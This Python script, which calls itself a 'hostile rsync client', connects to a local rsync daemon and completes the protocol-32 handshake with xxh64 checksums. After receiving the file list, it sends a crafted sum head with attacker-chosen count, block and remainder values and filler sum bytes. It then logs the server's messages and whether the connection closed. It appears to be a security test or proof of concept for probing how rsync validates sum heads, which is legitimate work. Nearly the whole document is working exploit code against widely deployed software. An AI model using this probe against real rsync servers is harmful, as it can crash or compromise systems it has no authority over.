#!/usr/bin/env python3
"""A hostile rsync client: handshakes at protocol 32 with a short digest
(--checksum-choice=xxh64, 8 bytes), receives the file list, then requests
the first file with a crafted sum head.  Prints the server's text messages
and whether the connection ended.  Bounded by timeouts throughout.

  evilsums.py PORT MODULE FILE COUNT BLENGTH S2LENGTH REMAINDER
"""
import socket, struct, sys, time

port, module, fname = int(sys.argv[1]), sys.argv[2], sys.argv[3]
count, blength, s2len, rem = (int(x) for x in sys.argv[4:8])
s = socket.create_connection(("127.0.0.1", port), 5)
s.settimeout(10)
buf = b""

def need(n):
    global buf
    while len(buf) < n:
        b = s.recv(65536)
        if not b:
            raise EOFError
        buf += b
    out, buf = buf[:n], buf[n:]
    return out

def line():
    global buf
    while b"\n" not in buf:
        b = s.recv(65536)
        if not b:
            raise EOFError
        buf += b
    i = buf.index(b"\n")
    out, buf = buf[:i], buf[i + 1:]
    return out.decode("latin-1")

s.sendall(b"@RSYNCD: 32.0 md5\n" + module.encode() + b"\n")
while line() != "@RSYNCD: OK":
    pass
args = ["--server", "--sender", "-e.LsfxCIvu", "--checksum-choice=xxh64", ".", module + "/" + fname]
s.sendall(b"".join(a.encode() + b"\0" for a in args) + b"\0")
first = need(1)[0]
if first & 0x80:
    need(1)
need(4)  # seed
frame = lambda payload: struct.pack("<I", (7 << 24) | len(payload)) + payload
s.sendall(frame(b"\0\0\0\0"))  # empty filter list
# Wait for the file list (one MSG_DATA frame at least), then attack.
texts = []
deadline = time.time() + 10
got_data = False
while not got_data and time.time() < deadline:
    h = struct.unpack("<I", need(4))[0]
    code, ln = (h >> 24) - 7, h & 0xffffff
    payload = need(ln)
    if code == 0 and ln > 0:
        got_data = True
    elif code != 0:
        texts.append(payload.decode("latin-1", "replace").replace("\0", "").strip())
req = b"\x01" + struct.pack("<H", 0x8000) + struct.pack("<iiii", count, blength, s2len, rem)
req += b"\x11" * 64  # a few bytes of "sums"; the server must not trust them
s.sendall(frame(req))
closed = False
try:
    while time.time() < deadline:
        h = struct.unpack("<I", need(4))[0]
        code, ln = (h >> 24) - 7, h & 0xffffff
        payload = need(ln)
        if code != 0:
            texts.append(payload.decode("latin-1", "replace").replace("\0", "").strip())
        if code == 86:  # MSG_ERROR_EXIT: acknowledge
            s.sendall(struct.pack("<I", (93 << 24)))
except (EOFError, ConnectionResetError, socket.timeout):
    closed = True
for t in texts:
    print("MSG", t)
print("CLOSED" if closed else "OPEN")
